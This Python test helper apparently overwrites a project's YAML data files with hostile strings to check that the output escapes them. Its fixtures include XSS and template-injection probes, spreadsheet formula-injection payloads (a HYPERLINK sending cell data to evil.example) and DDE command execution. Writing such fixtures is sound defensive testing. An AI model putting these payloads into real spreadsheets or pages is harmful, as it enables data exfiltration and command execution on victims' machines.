"""Texts that would do harm if they were run, put wherever a data folder holds a text."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Sequence
from itertools import cycle
from pathlib import Path
from typing import Any

import yaml

HOSTILE = (
    "<script>alert(1)</script> <b onclick=x>b</b> </div></table> {{ 7 * 7 }} {% raw %} {# c #} *a* "
    "__b__ `c` [d](javascript:alert(1)) ![e](f) # g | h {: .i #j } &amp; &#42; \\ \" ' ]]> "
    "<!--/html--> <!--html 0--> :smile: ~~k~~ <https://a.b> <div markdown>"
)
_TABLE = "AVANT\tPENDANT\tAPRES\n\t\t\n"
_HEADING = {"phase": "avant", "found": "AVANT", "written": HOSTILE}


#: What spreadsheets and word processors run, after each way to begin a formula.
FORMULAS = [
    f"{lead}{rest}"
    for lead in ("=", "+", "-", "@", "\t=")
    for rest in (
        'HYPERLINK("https://evil.example/?"&A1,"x")',
        "cmd|' /C evil'!A0",
        'DDEAUTO c:\\evil "/k"',
    )
]
_texts: Iterator[str] = cycle([HOSTILE])


def spoil(data: Path, texts: Sequence[str] = (HOSTILE,)) -> None:
    """Make every text below ``data`` one of ``texts``, in turn; the source is then no source."""
    global _texts
    _texts = cycle(texts)
    for path in (data / "releases").glob("*.yml"):
        path.write_text(_spoilt_lines(path.read_text(encoding="utf-8")), encoding="utf-8")
    for path in data.rglob("*.yml"):
        if path.parent.name == "releases":
            continue
        content = yaml.safe_load(path.read_text(encoding="utf-8"))
        if path.name == "corrections.yml":
            heading = {**_HEADING, "reason": {"fr": HOSTILE, "en": HOSTILE}}
            content = {"corrections": [], "duplicates": [], "headings": [heading]}
        path.write_text(yaml.safe_dump(_spoilt(content), allow_unicode=True), encoding="utf-8")
    (data / "source" / "conseils-table.txt").write_text(_TABLE, encoding="utf-8")


def _spoilt_lines(text: str) -> str:
    """What releases said: an entry a line, as JSON."""
    return re.sub(
        r"^(  \S+: )(\{.*\})$",
        lambda line: line[1] + json.dumps(_spoilt(json.loads(line[2])), ensure_ascii=False),
        text,
        flags=re.MULTILINE,
    )


def _spoilt(value: Any) -> Any:
    if isinstance(value, list):
        return [_spoilt(child) for child in value]
    if not isinstance(value, dict):
        return value
    if value.get("origin") == "source":
        return {"origin": "complement", "evidence": "proposal"}
    if isinstance(value.get("fr"), str):
        return {language: text and _with_places(text) for language, text in value.items()}
    return {
        # The title of a source is in one language.
        key: next(_texts) if key == "title" and isinstance(child, str) else _spoilt(child)
        for key, child in value.items()
        # Forms are looked for in texts; these are hostile enough.
        if key != "forms"
    }


def _with_places(text: str) -> str:
    """Keep what the interface's words must fill in."""
    return " ".join([next(_texts), *re.findall(r"\{\w+\}", text)])
